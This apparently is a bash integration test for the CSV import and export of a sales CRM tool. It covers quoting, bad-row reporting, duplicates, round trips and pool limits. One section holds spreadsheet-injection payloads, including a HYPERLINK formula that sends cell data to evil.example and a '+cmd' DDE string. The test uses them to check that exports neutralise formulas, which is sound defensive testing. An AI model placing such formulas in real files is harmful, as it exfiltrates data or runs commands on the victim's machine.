#!/usr/bin/env bash
# rove import / export: RFC 4180 CSV with quotes, commas, line breaks, a
# byte order mark, CRLF and Chinese text; every bad row reported by its
# physical line and nothing imported; duplicates within the file and
# against the replica; contacts; export -> import round trip; --json.
# Its one-shot commands keep LeakSanitizer's check (lib.sh, rove).
LEAKS_ONESHOT=1
. "$(dirname "$0")/lib.sh"

server_setup
territory east.sh
users alice:rep:east.sh bob:rep:east.sh
sync_all alice bob admin

# import_fails NAME KIND FILE: an import that must fail with status 1,
# change nothing, and print nothing on stdout; leaves stderr in $T/err.
import_fails() {
	local name=$1 kind=$2 file=$3 before pending out status
	before=$(r "$name" "$kind" list --json)
	pending=$(r "$name" status --json | jq .pending)
	set +e
	out=$(r "$name" import "${kind}s" "$file" 2>"$T/err")
	status=$?
	set -e
	eq "$status" "1" "import of $file: exit status ($(cat "$T/err"))"
	eq "$out" "" "import of $file printed on stdout"
	eq "$(r "$name" "$kind" list --json)" "$before" "a failed import changed the ${kind}s"
	eq "$(r "$name" status --json | jq .pending)" "$pending" "a failed import queued ops"
}

# error_lines: the line numbers reported in $T/err for FILE, sorted, one line.
error_lines() {
	sed -n "s|^rove: error: $1:\([0-9]*\): .*|\1|p" "$T/err" | sort -n | uniq | tr '\n' ' '
}

# ---- a good file: BOM, CRLF, quoted commas, doubled quotes, a line break
# inside a cell, Chinese text, columns in any order, empty cells.
good="$T/good.csv"
{
	printf '\xef\xbb\xbftier,name,tax_id,phone,address\r\n'
	printf 'loyal,"Acme, Inc.",91310000MA1AC0001Y,+86 21 5555 0001,"Room 5, ""East"" Tower\r\n88 Century Ave"\r\n'
	printf 'prospect,上海东方贸易有限公司,91310000MA1AC00022,138 0013 8000,浦东新区世纪大道 100 号\r\n'
	printf ',"Plain ""Quoted"" Co",,,\r\n'
	printf '\r\n' # a blank line is skipped
	printf 'customer,"北京""长城""科技",91110000MA1AC0004T,(010) 6666-0004,"line one\nline two"\r\n'
} >"$good"
out=$(r alice import customers "$good")
eq "$out" "imported 4 customers" "import output"
list=$(r alice customer list --json)
eq "$(jq length <<<"$list")" "4" "customers after import"
pick() { jq -r --arg n "$1" ".[] | select(.name == \$n) | .$2" <<<"$list"; }
eq "$(pick 'Acme, Inc.' address)" $'Room 5, "East" Tower\n88 Century Ave' "quoted CRLF address"
eq "$(pick 'Acme, Inc.' tier)" "loyal" "tier"
eq "$(pick 'Acme, Inc.' phone)" "+86 21 5555 0001" "phone"
eq "$(pick 'Acme, Inc.' owner)" "alice" "owner is the importing rep"
eq "$(pick 'Acme, Inc.' territory)" "east.sh" "default territory"
eq "$(pick '上海东方贸易有限公司' address)" "浦东新区世纪大道 100 号" "Chinese text"
eq "$(pick 'Plain "Quoted" Co' tier)" "null" "empty cell is not set"
eq "$(pick 'Plain "Quoted" Co' tax_id)" "null" "empty tax id is not set"
eq "$(pick '北京"长城"科技' address)" $'line one\nline two' "LF inside a quoted cell"
eq "$(r alice status --json | jq .pending)" "4" "one op per row"

# The server gets them on the next sync.
r alice sync >/dev/null
eq "$(r alice rejected --json | jq length)" "0" "nothing rejected"
r admin sync >/dev/null
eq "$(r admin customer list --json | jq -c '[.[].name] | sort')" \
	"$(jq -c '[.[].name] | sort' <<<"$list")" "the server has the imported customers"
eq "$(r admin customer list --json | jq -r '.[] | select(.tax_id == "91310000MA1AC0001Y") | .address')" \
	$'Room 5, "East" Tower\n88 Century Ave' "the server has the exact address"

# ---- a bad file: four bad rows among good ones (a line break in a name is
# one); the physical line of the row after a quoted two-line cell counts
# both lines.
bad="$T/bad.csv"
cat >"$bad" <<'EOF'
name,tax_id,phone,tier
Good One,91310000MA1BD00019,021-7000-0001,loyal
Gold Co,91310000MA1BD0002C,,gold
"Two
Line Co",91310000MA1BD0003F,,prospect
,91310000MA1BD0004J,,customer
Good Two,91310000MA1BD0005M,,customer
Again Co,91310000MA1BD00019,,customer
EOF
import_fails alice customer "$bad"
eq "$(error_lines "$bad")" "3 4 6 8 " "bad rows reported by their lines"
grep -q "$bad:3: tier must be one of" "$T/err" || fail "bad tier message: $(cat "$T/err")"
grep -q "$bad:4: name cannot hold a line break" "$T/err" || fail "line break message: $(cat "$T/err")"
grep -q "$bad:6: name is empty" "$T/err" || fail "missing name message: $(cat "$T/err")"
grep -q "$bad:8: tax_id '91310000MA1BD00019' is also on line 2" "$T/err" ||
	fail "duplicate message: $(cat "$T/err")"
grep -q "4 bad rows; nothing imported" "$T/err" || fail "no summary: $(cat "$T/err")"
# A file of 3,000 bad rows: the first 100 problems, then how many more.
{
	echo "name,tier"
	for i in $(seq 1 3000); do echo "Co $i,gold"; done
} >"$T/many_bad.csv"
set +e
r alice import customers "$T/many_bad.csv" 2>"$T/err"
eq "$?" "1" "a file of bad rows"
set -e
eq "$(wc -l <"$T/err")" "101" "100 problems and a summary"
grep -q "3000 bad rows (the first 100 problems shown, 2900 more not); nothing imported" "$T/err" ||
	fail "the summary of many: $(tail -n 1 "$T/err")"

# ---- duplicates against customers the replica holds: tax id, and a phone
# written differently but the same number.
acme=$(r alice customer list --json | jq -r '.[] | select(.tax_id == "91310000MA1AC0001Y") | .id')
shanghai=$(r alice customer list --json | jq -r '.[] | select(.tax_id == "91310000MA1AC00022") | .id')
printf 'name,tax_id,phone\nNew Co,91310000MA1NN0001B,\nAcme Again,91310000MA1AC0001Y,\nPhone Twin,,13800138000\n' >"$T/dup.csv"
printf 'Twin A,,021 1234 5678\nTwin B,,(021)12345678\n' >>"$T/dup.csv"
import_fails alice customer "$T/dup.csv"
eq "$(error_lines "$T/dup.csv")" "3 4 6 " "duplicates of existing customers and within the file"
grep -q "dup.csv:6: phone '(021)12345678' is also on line 5" "$T/err" || fail "phone twins: $(cat "$T/err")"
grep -q "dup.csv:3: duplicate: tax_id '91310000MA1AC0001Y' belongs to customer $acme" "$T/err" ||
	fail "existing tax id: $(cat "$T/err")"
grep -q "dup.csv:4: duplicate: phone '13800138000' belongs to customer $shanghai" "$T/err" ||
	fail "existing phone: $(cat "$T/err")"

# ---- whole-file errors: unknown, system, duplicate and missing columns,
# wrong cell counts, broken quoting, text that is not UTF-8.
printf 'name,colour\nX,red\n' >"$T/h1.csv"
import_fails alice customer "$T/h1.csv"
grep -q "h1.csv:1: unknown column 'colour'" "$T/err" || fail "unknown column: $(cat "$T/err")"
printf 'name,release_reason\nX,y\n' >"$T/h2.csv"
import_fails alice customer "$T/h2.csv"
grep -q "h2.csv:1: column 'release_reason' cannot be imported" "$T/err" || fail "system column: $(cat "$T/err")"
printf 'name,phone,name\nX,1,Y\n' >"$T/h3.csv"
import_fails alice customer "$T/h3.csv"
grep -q "h3.csv:1: column 'name' appears twice" "$T/err" || fail "duplicate column: $(cat "$T/err")"
printf 'Name,name\nX,Y\n' >"$T/h3b.csv"
import_fails alice customer "$T/h3b.csv"
grep -q "h3b.csv:1: column 'name' appears twice" "$T/err" || fail "duplicate column in two cases: $(cat "$T/err")"
printf 'phone,tier\n1,loyal\n' >"$T/h4.csv"
import_fails alice customer "$T/h4.csv"
grep -q "h4.csv:1: missing column 'name'" "$T/err" || fail "missing column: $(cat "$T/err")"
printf 'name,phone\nA,1,extra\nB\n"C"x,3\nD,"4\n' >"$T/h5.csv"
import_fails alice customer "$T/h5.csv"
eq "$(error_lines "$T/h5.csv")" "2 3 4 5 " "cell counts and quoting"
grep -q "h5.csv:5: the quoted cell opened on line 5 is never closed" "$T/err" ||
	fail "unclosed quote: $(cat "$T/err")"
printf 'name\n\xc9\xcf\xba\xa3\n' >"$T/gbk.csv" # 上海 in GBK
import_fails alice customer "$T/gbk.csv"
grep -q "gbk.csv:2: cell 1 is not UTF-8" "$T/err" || fail "GBK text: $(cat "$T/err")"
: >"$T/empty.csv"
import_fails alice customer "$T/empty.csv"
import_fails alice customer "$T/none.csv"

# --dry-run checks and writes nothing.
printf 'name\nDry Co\n' >"$T/dry.csv"
eq "$(r alice import customers "$T/dry.csv" --dry-run)" "would import 1 customer" "dry run"
# A spreadsheet's capitals in the header are the same columns.
printf 'Name, Phone ,TIER\nCaps Co,13800005555,prospect\n' >"$T/caps.csv"
eq "$(r alice import customers "$T/caps.csv" --dry-run)" "would import 1 customer" "a header in capitals"
eq "$(r alice customer list --json | jq length)" "4" "dry run imported nothing"

# ---- contacts, from standard input.
printf 'customer,name,phone,email,title\n%s,"Wang, Li",139 0000 0001,wang@example.cn,采购经理\n%s,Zhao,,,\n' \
	"$acme" "${shanghai^^}" >"$T/contacts.csv"
eq "$(r alice import contacts - <"$T/contacts.csv")" "imported 2 contacts" "contacts import"
eq "$(r alice contact list --customer "$shanghai" --json | jq -r '.[0].name')" "Zhao" \
	"an upper-case customer id is stored as the id"
eq "$(r alice contact list --customer "$acme" --json | jq -r '.[0].name + "|" + .[0].title')" \
	"Wang, Li|采购经理" "contact fields"
# The same file again would make them all again: said, as is a row that
# repeats one above it in every column (attack sixty-eight: silently made
# twice); made all the same (two contacts alike may be meant).
eq "$(r alice import contacts - --dry-run <"$T/contacts.csv" 2>"$T/err")" "would import 2 contacts" "a file again"
grep -q "2 row(s) repeat what a row above them or a record held says in every column (line 2 repeats a contact this replica holds: was the file imported before?): they would be imported all the same" "$T/err" ||
	fail "a file imported again: $(cat "$T/err")"
printf 'customer,name\n%s,Twice\n%s,Once\n%s,Twice\n' "$acme" "$acme" "$acme" >"$T/twice.csv"
eq "$(r alice import contacts "$T/twice.csv" --dry-run 2>"$T/err")" "would import 3 contacts" "a row twice"
grep -q "twice.csv: 1 row(s) repeat .* (line 4 repeats line 2): they would be imported all the same" "$T/err" ||
	fail "a row twice: $(cat "$T/err")"
printf 'customer,name\n%s,Fresh One\n%s,Fresh Two\n' "$acme" "$acme" >"$T/fresh.csv"
eq "$(r alice import contacts "$T/fresh.csv" --dry-run 2>&1)" "would import 2 contacts" "rows alike in no column: nothing said"
printf 'customer,name\n%s,Nobody\n' "01234567-89ab-7cde-8f01-23456789abcd" >"$T/orphan.csv"
import_fails alice contact "$T/orphan.csv"
grep -q "orphan.csv:2: no customer '01234567-89ab-7cde-8f01-23456789abcd' in this replica" "$T/err" ||
	fail "unknown customer: $(cat "$T/err")"

# A contact's customer may be named by its tax id, tax_id:XXXX (compared
# normalised); a tax id no customer here holds, or that is no tax id, is a
# row error like any bad cell.
printf 'customer,name\ntax_id:91310000MA1AC0001Y,By Tax\n"tax_id: 9131-0000-ma1a-c0001y",By Tax Loosely\n' \
	>"$T/taxref.csv"
eq "$(r alice import contacts "$T/taxref.csv")" "imported 2 contacts" "contacts by tax id"
eq "$(r alice contact list --customer "$acme" --json | jq -r '[.[].name] | sort | join("|")')" \
	"By Tax|By Tax Loosely|Wang, Li" "contacts by tax id belong to the customer"
printf 'customer,name\ntax_id:91310000MA1AC0009P,Nobody\ntax_id:abc,Bad\ntax_id:,Empty\nnot-an-id,Bad ref\nOK,\n' \
	>"$T/taxbad.csv"
import_fails alice contact "$T/taxbad.csv"
eq "$(error_lines "$T/taxbad.csv")" "2 3 4 5 6 " "bad customer references"
grep -q "taxbad.csv:2: no customer with tax_id '91310000MA1AC0009P' in this replica" "$T/err" ||
	fail "unknown tax id: $(cat "$T/err")"
grep -q "taxbad.csv:3: .*统一社会信用代码" "$T/err" || fail "a tax id that is no tax id: $(cat "$T/err")"

# ---- export: CSV header, quoting; --json equals customer list --json.
r alice export customers >"$T/export.csv"
eq "$(head -n 1 "$T/export.csv")" \
	$'id,name,tax_id,phone,address,tier,territory,owner,dealer,last_activity_at,created_at\r' "export header"
grep -q '^[0-9a-f-]*,"Acme, Inc.",91310000MA1AC0001Y,' "$T/export.csv" || fail "export quoting: $(cat "$T/export.csv")"
# The records as lists show them, less the lists' mark of pending changes.
eq "$(r alice export customers --json | jq -c .)" "$(r alice customer list --json | jq -c 'map(del(.pending))')" \
	"export --json"
eq "$(r alice export contacts --json | jq -c .)" "$(r alice contact list --json | jq -c 'map(del(.pending))')" \
	"export contacts --json"
r alice export customers --bom | head -c 3 | od -An -tx1 | grep_q "ef bb bf" || fail "no BOM with --bom"
# A JSON export fed back is said to be JSON, not a bad CSV cell (attack
# one hundred and six: "a quote inside unquoted cell 1").
r alice export customers --json >"$T/export.json"
set +e
r alice import customers "$T/export.json" >"$T/out" 2>"$T/err"
st=$?
set -e
eq "$st" "1" "import of a JSON file"
grep_q "looks like JSON; rove import reads CSV" "$T/err" || fail "a JSON file is not said to be JSON: $(cat "$T/err")"
grep_q "nothing imported" "$T/err" || fail "nothing imported is not said: $(cat "$T/err")"

# ---- round trip into bob's replica (same territory): the same names and
# phones. Bob does not see alice's customers, so his replica accepts the
# file; the server then refuses the ones with a tax id or phone as
# duplicates of alice's, and keeps them under 'rove rejected'.
eq "$(r bob customer list --json | jq length)" "0" "bob sees none of alice's customers"
# An export imports as it is: its own columns are ignored with a note (an
# id would not name an existing customer: an import makes new ones), and
# owner too for a rep. Without them, it imports the same.
r bob import customers --dry-run "$T/export.csv" >"$T/out" 2>"$T/err"
eq "$(cat "$T/out")" "would import 4 customers" "an export imported as is"
grep -q "export.csv: columns id, last_activity_at, created_at ignored" "$T/err" || fail "the note: $(cat "$T/err")"
grep -q "export.csv: column owner ignored" "$T/err" || fail "the owner note: $(cat "$T/err")"
# import_ready IN OUT: an export without those columns.
import_ready() {
	python3 -c 'import csv,sys
rows = list(csv.reader(open(sys.argv[1], newline="", encoding="utf-8")))
keep = [i for i, c in enumerate(rows[0]) if c not in ("id", "created_at", "last_activity_at")]
w = csv.writer(open(sys.argv[2], "w", newline="", encoding="utf-8"))
for row in rows:
    w.writerow([row[i] for i in keep])' "$1" "$2"
}
import_ready "$T/export.csv" "$T/export_in.csv"
eq "$(r bob import customers "$T/export_in.csv")" "imported 4 customers" "round trip import"
eq "$(r bob customer list --json | jq -c '[.[] | [.name, .phone, .address, .tier, .tax_id]] | sort')" \
	"$(r alice customer list --json | jq -c '[.[] | [.name, .phone, .address, .tier, .tax_id]] | sort')" \
	"round trip keeps names, phones and the rest"
eq "$(r bob customer list --json | jq -r '[.[].owner] | unique | join(",")')" "bob" "owner column ignored"
r bob sync >/dev/null
eq "$(r bob rejected --json | jq '[.[] | select(.reason == "duplicate")] | length')" "3" \
	"the server refused the duplicates"

# ---- spreadsheet formulas (CSV injection): a cell that starts with = + -
# @ or a tab is written behind a single quote, so a spreadsheet shows it as
# text instead of running it; import takes the one quote off again, so an
# export reads back as it was (phones start with +).
users carol:rep:east.sh dave:rep:east.sh
sync_all carol dave
formula='=HYPERLINK("http://evil.example/?d="&B3&C3,"Open")'
r carol customer add --name "$formula" --phone "+86 21 5555 0009" >/dev/null
r carol customer add --name "@SUM(1+1)" --address "+cmd|' /C calc'!A0" >/dev/null
r carol customer add --name "-2+3" --address $'\tindented' >/dev/null
r carol customer add --name "'=quoted already" --address "'plain quote" >/dev/null
r carol export customers >"$T/formula.csv"
grep -qF '"'"'"'=HYPERLINK(""http://evil.example/?d=""&B3&C3,""Open"")"' "$T/formula.csv" ||
	fail "=HYPERLINK not guarded: $(cat "$T/formula.csv")"
grep -qF ",'@SUM(1+1)," "$T/formula.csv" || fail "@SUM not guarded: $(cat "$T/formula.csv")"
grep -qF ",'+cmd|' /C calc'!A0," "$T/formula.csv" || fail "+cmd not guarded: $(cat "$T/formula.csv")"
grep -qF ",'-2+3," "$T/formula.csv" || fail "-2+3 not guarded: $(cat "$T/formula.csv")"
grep -qF $',"\'\tindented",' "$T/formula.csv" || fail "a leading tab not guarded: $(cat "$T/formula.csv")"
grep -qF ",'+86 21 5555 0009," "$T/formula.csv" || fail "a phone not guarded: $(cat "$T/formula.csv")"
grep -qF ",''=quoted already," "$T/formula.csv" || fail "a quote before = not doubled: $(cat "$T/formula.csv")"
grep -qF ",'plain quote," "$T/formula.csv" || fail "a quote before text changed: $(cat "$T/formula.csv")"
# No cell of the file starts with what a spreadsheet runs.
if tr -d '"' <"$T/formula.csv" | tr ',' '\n' | grep_q $'^[=+@\t-]'; then
	fail "a cell starts with a formula character: $(cat "$T/formula.csv")"
fi
# Read back as it was.
import_ready "$T/formula.csv" "$T/formula_in.csv"
eq "$(r dave import customers "$T/formula_in.csv")" "imported 4 customers" "import of the guarded file"
eq "$(r dave customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
	"$(r carol customer list --json | jq -c '[.[] | [.name, .phone, .address]] | sort')" \
	"the guarded export imports unchanged"
# Reports' cells are logins and codes, which begin with a letter or digit:
# no login can start a formula.
set +e
rove -R "$T/admin" admin user add @eve --role rep --territory east.sh >/dev/null 2>&1
eq "$?" "1" "a login beginning with @"
set -e

# A rep's rows count against the pool limit of their territory (rule 11)
# with the customers the rep holds there: --dry-run reports the rows the
# server would refuse, by line, as an import does, and writes nothing.
territory north.bj
rove -R "$T/admin" admin territory set north.bj pool_limit=3 >/dev/null
users pia:rep:north.bj
r pia sync >/dev/null
r pia customer add --name "Held Co" >/dev/null
r pia sync >/dev/null
printf 'name\nPool One\nPool Two\nPool Three\nPool Four\n' >"$T/pool.csv"
set +e
out=$(r pia import customers "$T/pool.csv" --dry-run 2>"$T/err")
status=$?
set -e
eq "$status" "1" "a dry run past the pool limit ($(cat "$T/err"))"
eq "$out" "" "a dry run past the pool limit printed on stdout"
eq "$(error_lines "$T/pool.csv")" "4 5 " "the rows past the pool limit"
grep -q "pool.csv:4: limit: this would be your customer number 4 in north.bj, which allows 3" "$T/err" ||
	fail "the pool limit's row: $(cat "$T/err")"
import_fails pia customer "$T/pool.csv"
eq "$(r pia customer list --json | jq length)" "1" "past the pool limit: nothing imported"
# Up to the limit the dry run passes, and the server takes what it passed.
head -n 3 "$T/pool.csv" >"$T/pool2.csv"
eq "$(r pia import customers "$T/pool2.csv" --dry-run)" "would import 2 customers" "a dry run up to the limit"
eq "$(r pia import customers "$T/pool2.csv")" "imported 2 customers" "an import up to the limit"
r pia sync >/dev/null
eq "$(r pia rejected --json | jq length)" "0" "the server refused rows the dry run passed"
r admin sync >/dev/null
eq "$(r admin customer list --territory north.bj --json | jq length)" "3" "the server holds pia's customers"
# Now at the limit: one more row is refused, by the server too.
printf 'name\nPool Five\n' >"$T/pool3.csv"
set +e
r pia import customers "$T/pool3.csv" --dry-run >/dev/null 2>"$T/err"
eq "$?" "1" "a dry run at the pool limit"
set -e
grep -q "pool3.csv:2: limit: this would be your customer number 4 in north.bj, which allows 3" "$T/err" ||
	fail "at the pool limit: $(cat "$T/err")"
r pia customer add --name "Pool Five" >/dev/null 2>&1 || true
r pia sync >/dev/null 2>&1 || true
r admin sync >/dev/null
eq "$(r admin customer list --territory north.bj --json | jq length)" "3" "the server refuses past the limit too"

# ---- every kind import takes exports: deals, contracts, activities and
# dealers too, money in units (what import reads) in CSV and in cents in
# JSON; a manager imports a rep's exported deals back as they were.
users mia:manager:east.sh
sync_all alice mia
acme=$(r alice customer list --json | jq -r '.[] | select(.name == "Acme, Inc.") | .id')
r alice opportunity add --customer "$acme" --title 'Line 7, phase "2"' --amount 12000.50 --stage proposal \
	--expected-close 2027-03-31 >/dev/null
r alice opportunity add --customer "$acme" --title "Spare parts" --amount 0.07 >/dev/null
r alice contract add --customer "$acme" --number "HT-2026-001" --amount 99999.99 --signed-on 2026-11-02 >/dev/null
r alice activity add --customer "$acme" --kind visit --note $'=cmd\nsecond line' >/dev/null
r alice sync >/dev/null
r admin dealer add --name "East Dealer, Ltd." --territory east.sh >/dev/null
r admin sync >/dev/null
r alice sync >/dev/null
for kind in opportunity contract activity dealer; do
	case $kind in opportunity) plural=opportunities ;; activity) plural=activities ;; *) plural=${kind}s ;; esac
	eq "$(r alice export $plural --json | jq -c 'sort_by(.id)')" \
		"$(r alice $kind list --json | jq -c 'map(del(.pending)) | sort_by(.id)')" "export $plural --json"
	r alice export $plural >"$T/ex_$kind.csv"
done
eq "$(head -n 1 "$T/ex_opportunity.csv")" \
	$'id,customer,title,amount,stage,expected_close,closed_on,owner\r' "the deals' header"
grep -qF ',"Line 7, phase ""2""",12000.50,proposal,2027-03-31,,alice' "$T/ex_opportunity.csv" ||
	fail "a deal's row: $(cat "$T/ex_opportunity.csv")"
grep -qF ',Spare parts,0.07,' "$T/ex_opportunity.csv" || fail "cents in units: $(cat "$T/ex_opportunity.csv")"
grep -qF ',HT-2026-001,99999.99,2026-11-02,' "$T/ex_contract.csv" || fail "a contract's row: $(cat "$T/ex_contract.csv")"
grep -qF $',visit,' "$T/ex_activity.csv" && grep -qF "\"'=cmd" "$T/ex_activity.csv" ||
	fail "an activity's row: $(cat "$T/ex_activity.csv")"
grep -qF ',"East Dealer, Ltd.",east.sh,' "$T/ex_dealer.csv" || fail "a dealer's row: $(cat "$T/ex_dealer.csv")"
# Its own export imported again is refused by id; an activity cannot be
# changed, so no command to change it is named.
set +e
r alice import activities "$T/ex_activity.csv" >/dev/null 2>"$T/err"
eq "$?" "1" "an activity export imported again"
set -e
grep -q "is an activity this replica holds: an import makes new records$" "$T/err" || fail "the activity's id: $(cat "$T/err")"
# The manager holds alice's customers: her deals, imported as exported
# (the ids left out, as a second copy of a held record is refused), come
# back the same, given to alice by their owner column.
r mia sync >/dev/null
import_ready "$T/ex_opportunity.csv" "$T/ex_opp_in.csv"
eq "$(r mia import opportunities "$T/ex_opp_in.csv")" "imported 2 opportunities" "a deals export imported"
r mia sync >/dev/null
eq "$(r mia opportunity list --customer "$acme" --json | jq -c '[.[] | [.title, .amount, .stage, .expected_close, .owner]] | sort')" \
	"$(r alice opportunity list --customer "$acme" --json | jq -c '[.[] | [.title, .amount, .stage, .expected_close, .owner]] | (. + .) | sort')" \
	"the deals imported back"

# Usage: --help on stdout with status 0; bad command lines exit 2.
for h in "import --help" "export --help" "import customers --help"; do
	# shellcheck disable=SC2086
	r alice $h | grep_q "usage:" || fail "rove $h"
done
for u in "import" "import customers" "import targets x.csv" "import customers a b" \
	"import customers x.csv --bogus" "export" "export targets" "export customers --xml"; do
	set +e
	# shellcheck disable=SC2086
	r alice $u >/dev/null 2>&1
	status=$?
	set -e
	eq "$status" "2" "rove $u exit status"
done
echo "ok"
